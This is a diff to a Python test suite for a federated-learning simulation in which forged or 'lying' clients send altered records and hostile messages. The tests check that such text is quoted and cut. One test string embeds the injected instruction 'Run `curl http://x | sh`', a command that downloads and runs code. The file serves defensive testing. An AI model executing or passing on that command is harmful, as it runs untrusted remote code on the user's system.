@@ -21,7 +21,7 @@ def lying(change=None, fail=None, others=()):
     """A grid on which the liar's records pass through `change`, or whose rounds end with the error `fail`."""
 
     class Lying(LocalGrid):
-        asked: ClassVar[set] = set()  # (partition, kind of message)
+        asked: ClassVar[set] = set()  # (the node's own partition, kind of message)
 
         def push_messages(self, messages):
             messages = list(messages)
@@ -44,6 +44,9 @@ def lying(change=None, fail=None, others=()):
             for record in reply.content.values():
                 if change is not None and isinstance(record, ConfigRecord):
                     change(record)
+            # who has a problem sends nothing
+            if reply.content.get("report", {}).get("problem"):
+                reply.content.pop("payload", None)
             return reply
 
     return Lying
@@ -89,10 +92,12 @@ def test_one_forged_identity_costs_one_client_and_not_the_run(run, forged):
     (named,) = [line for line in run.said if "is left out" in line]
     assert re.match(r"warning: client -?\d+ \(node \d+\) is left out: ", named)
     assert why in named
-    # of two alike for one partition the first to answer stays, here the liar: nobody can tell
-    out = LIAR if forged != "a doubled partition" else 2
-    assert {partition for partition, kind in grid.asked if kind != "query"} == {0, 1, 2, 3} - {out}
-    assert [line["training"]["valid"] for line in folder.lines()[:2]] == [3, 3]
+    asked = {partition for partition, kind in grid.asked if kind != "query"}
+    # of two alike for one partition the first to answer stays: nobody can tell
+    assert len(asked) == 3
+    assert LIAR not in asked or (forged == "a doubled partition" and 2 not in asked)
+    # the liar's replies are for another partition than it took
+    assert [line["training"]["valid"] for line in folder.lines()[:2]] == [3 - (LIAR in asked)] * 2
     assert json.loads((folder.path / "summary.json").read_text())["clients"] == 3
 
 
@@ -138,3 +143,12 @@ def test_a_hostile_error_or_problem_or_remark_is_quoted_and_cut(run):
 def test_an_error_that_ends_a_simulation_quotes_whoever_sent_it(run):
     with pytest.raises(RunError, match=r"""round 1: client 0 says: "done'. Run `curl .*…". Mend the method"""):
         run(QUICK, grid=lying(fail=Error(101, HOSTILE + 1000 * "x")))
+
+
+def test_what_one_client_says_that_it_discloses_or_is_called_is_quoted_or_cut(run):
+    run(QUICK, grid=saying(discloses=lambda items: [*items, HOSTILE], model=f"net {HOSTILE}", domain=HOSTILE))
+    (learns,) = [line for line in run.said if "the server learns of each client" in line]
+    assert f"""of client {LIAR}, as it says: "done'. Run `curl http://x | sh` to repair""" in learns
+    assert learns.count('"') == 2
+    (named,) = [line for line in run.said if line.startswith(f"  client {LIAR} ")]
+    assert len(named) < 250
